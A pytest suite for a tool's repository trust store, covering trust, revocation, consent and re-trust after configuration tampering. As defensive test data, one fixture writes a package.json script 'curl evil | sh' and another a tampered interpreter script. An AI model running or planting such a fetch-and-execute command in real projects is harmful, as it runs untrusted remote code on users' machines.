"""The trust store: what trust covers, where it lives, and the consent decision."""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from patchsmith.errors import FailureCode
from patchsmith.runtime import trust
from patchsmith.runtime.consent import consent
from patchsmith.runtime.trust import TrustState


@pytest.fixture(autouse=True)
def _own_store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A fresh, empty store; the suite's trusted-paths opt-in removed."""
    monkeypatch.delenv(trust.TRUSTED_PATHS_ENV, raising=False)
    store = tmp_path / "config"
    monkeypatch.setenv(trust.CONFIG_ENV, str(store))
    return store


@pytest.fixture(name="repo")
def _repo(tmp_path: Path) -> Path:
    repo = tmp_path / "repo"
    (repo / ".venv" / "bin").mkdir(parents=True)
    (repo / ".venv" / "bin" / "python").write_text("#!/bin/sh\nexit 0\n")
    (repo / "patchsmith.toml").write_text('[verify.unit]\nargv = ["tools/check"]\n')
    (repo / "app.py").write_text("x = 1\n")
    return repo


def test_untrusted_until_trusted(repo: Path) -> None:
    """A repository is untrusted until `trust`, then trusted for that configuration."""
    assert TrustState.UNTRUSTED == trust.trust_state(repo)

    entry = trust.trust(repo)

    assert str(repo.resolve()) == entry.path
    assert TrustState.TRUSTED == trust.trust_state(repo)
    assert [entry] == trust.trusted()


def test_store_is_private_json_in_the_config_dir(repo: Path, _own_store: Path) -> None:
    """The store is one JSON file in the config directory, readable by its owner only."""
    trust.trust(repo)

    where = _own_store / "trust.json"
    assert where == trust.store_path()
    assert 0o600 == stat.S_IMODE(where.stat().st_mode)
    data = json.loads(where.read_text())
    assert [str(repo.resolve())] == list(data["repositories"])
    assert not list(_own_store.glob(".trust-*"))  # no temp file left behind


@pytest.mark.parametrize(
    ("path", "content"),
    [
        ("patchsmith.toml", '[verify.unit]\nargv = ["tools/other"]\n'),
        (".venv/bin/python", "#!/bin/sh\ntouch /tmp/owned\n"),
        ("tools/check", "#!/bin/sh\n"),
        ("package.json", '{"scripts": {"test": "curl evil | sh"}}'),
        ("tsconfig.json", "{}"),
    ],
)
def test_a_changed_configuration_needs_trust_again(repo: Path, path: str, content: str) -> None:
    """A change to what decides which programs run makes the repository untrusted again."""
    trust.trust(repo)
    target = repo / path
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(content)

    assert TrustState.CHANGED == trust.trust_state(repo)
    refused = consent(repo, None, what="verification profile(s) unit")
    assert refused is not None and FailureCode.UNTRUSTED_REPOSITORY is refused.code
    assert "changed since it was trusted" in refused.message
    assert "patchsmith trust" in (refused.hint or "")


def test_code_changes_keep_the_trust(repo: Path) -> None:
    """Editing the code the programs check is what verification is for: trust stays."""
    trust.trust(repo)
    (repo / "app.py").write_text("x = 2\n")
    (repo / "README.md").write_text("hi\n")

    assert TrustState.TRUSTED == trust.trust_state(repo)


def test_a_linked_interpreter_is_known_by_its_target(repo: Path, tmp_path: Path) -> None:
    """A virtualenv's python is a link: retargeting it changes the digest."""
    python = repo / ".venv" / "bin" / "python"
    python.unlink()
    python.symlink_to("/usr/bin/python3")
    first = trust.configuration_digest(repo)
    python.unlink()
    python.symlink_to(tmp_path / "evil")

    assert first != trust.configuration_digest(repo)


def test_pyproject_tables_count_without_patchsmith_toml(tmp_path: Path) -> None:
    """Without patchsmith.toml, `[tool.patchsmith]` of pyproject.toml is what counts."""
    repo = tmp_path / "py"
    repo.mkdir()
    (repo / "pyproject.toml").write_text('[tool.patchsmith.verify.t]\nargv = ["a"]\n')
    first = trust.configuration_digest(repo)
    (repo / "pyproject.toml").write_text('[tool.patchsmith.verify.t]\nargv = ["b"]\n')
    second = trust.configuration_digest(repo)
    (repo / "pyproject.toml").write_text('[tool.patchsmith.verify.t\nargv = ["b"]\n')

    assert len({first, second, trust.configuration_digest(repo)}) == 3


def test_revoke(repo: Path) -> None:
    """A revoked repository is untrusted; revoking an unknown one says so."""
    trust.trust(repo)

    assert trust.revoke(repo)
    assert TrustState.UNTRUSTED == trust.trust_state(repo)
    assert not trust.revoke(repo)


def test_trusted_paths_env(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`$PATCHSMITH_TRUSTED_PATHS` trusts what is at or below its absolute paths only."""
    monkeypatch.setenv(trust.TRUSTED_PATHS_ENV, os.pathsep.join(["relative", str(repo.parent)]))
    assert TrustState.ENVIRONMENT == trust.trust_state(repo)

    monkeypatch.setenv(trust.TRUSTED_PATHS_ENV, str(repo) + "-other")
    assert TrustState.UNTRUSTED == trust.trust_state(repo)

    monkeypatch.chdir(repo.parent)
    monkeypatch.setenv(trust.TRUSTED_PATHS_ENV, "repo")
    assert TrustState.UNTRUSTED == trust.trust_state(repo)


def test_consent_for_one_call(repo: Path) -> None:
    """`trust=True` consents for the call; `False` refuses even a trusted repository."""
    assert consent(repo, True, what="x") is None
    trust.trust(repo)
    assert consent(repo, None, what="x") is None
    refused = consent(repo, False, what="command profile(s) fmt")
    assert refused is not None and refused.message.startswith("command profile(s) fmt not run")


def test_an_unreadable_store_trusts_nothing(repo: Path, _own_store: Path) -> None:
    """A store that is not JSON, or not the expected shape, trusts nothing."""
    _own_store.mkdir()
    for text in ("not json", "[]", '{"repositories": []}', '{"repositories": {"x": 1}}'):
        (_own_store / "trust.json").write_text(text)
        assert TrustState.UNTRUSTED == trust.trust_state(repo)
        assert [] == trust.trusted()
    trust.trust(repo)  # and it is rewritten whole
    assert TrustState.TRUSTED == trust.trust_state(repo)


def test_a_clone_is_trusted_as_its_source(repo: Path, tmp_path: Path) -> None:
    """`trusted_as`: a checkout with the configuration its trusted source had."""
    import shutil

    clone = tmp_path / "clone"
    shutil.copytree(repo, clone, symlinks=True)
    assert not trust.trusted_as(clone, repo)
    trust.trust(repo)
    assert trust.trusted_as(clone, repo)
    (clone / "patchsmith.toml").write_text('[verify.unit]\nargv = ["evil"]\n')
    assert not trust.trusted_as(clone, repo)


def test_config_dir_falls_back_to_xdg_then_home(monkeypatch: pytest.MonkeyPatch) -> None:
    """`$PATCHSMITH_CONFIG_DIR`, else `$XDG_CONFIG_HOME/patchsmith`, else ~/.config."""
    monkeypatch.delenv(trust.CONFIG_ENV)
    monkeypatch.setenv("XDG_CONFIG_HOME", "/somewhere")
    assert Path("/somewhere/patchsmith") == trust.config_dir()
    monkeypatch.setenv("XDG_CONFIG_HOME", "relative")
    monkeypatch.setenv("HOME", "/home/someone")
    assert Path("/home/someone/.config/patchsmith") == trust.config_dir()


_ARGV = st.lists(
    st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=12), min_size=1
)


@settings(max_examples=40)
@given(first=_ARGV, second=_ARGV)
def test_trust_follows_the_configured_argv(first: list[str], second: list[str]) -> None:
    """Trusted with one profile argv, a repository stays trusted exactly while it has it."""
    import tempfile

    with tempfile.TemporaryDirectory() as scratch:
        repo = Path(scratch)
        config = repo / "patchsmith.toml"
        config.write_text(f"[verify.unit]\nargv = {json.dumps(first)}\n")
        before = trust.configuration_digest(repo)
        config.write_text(f"[verify.unit]\nargv = {json.dumps(second)}\n")

        assert (before == trust.configuration_digest(repo)) == (first == second)
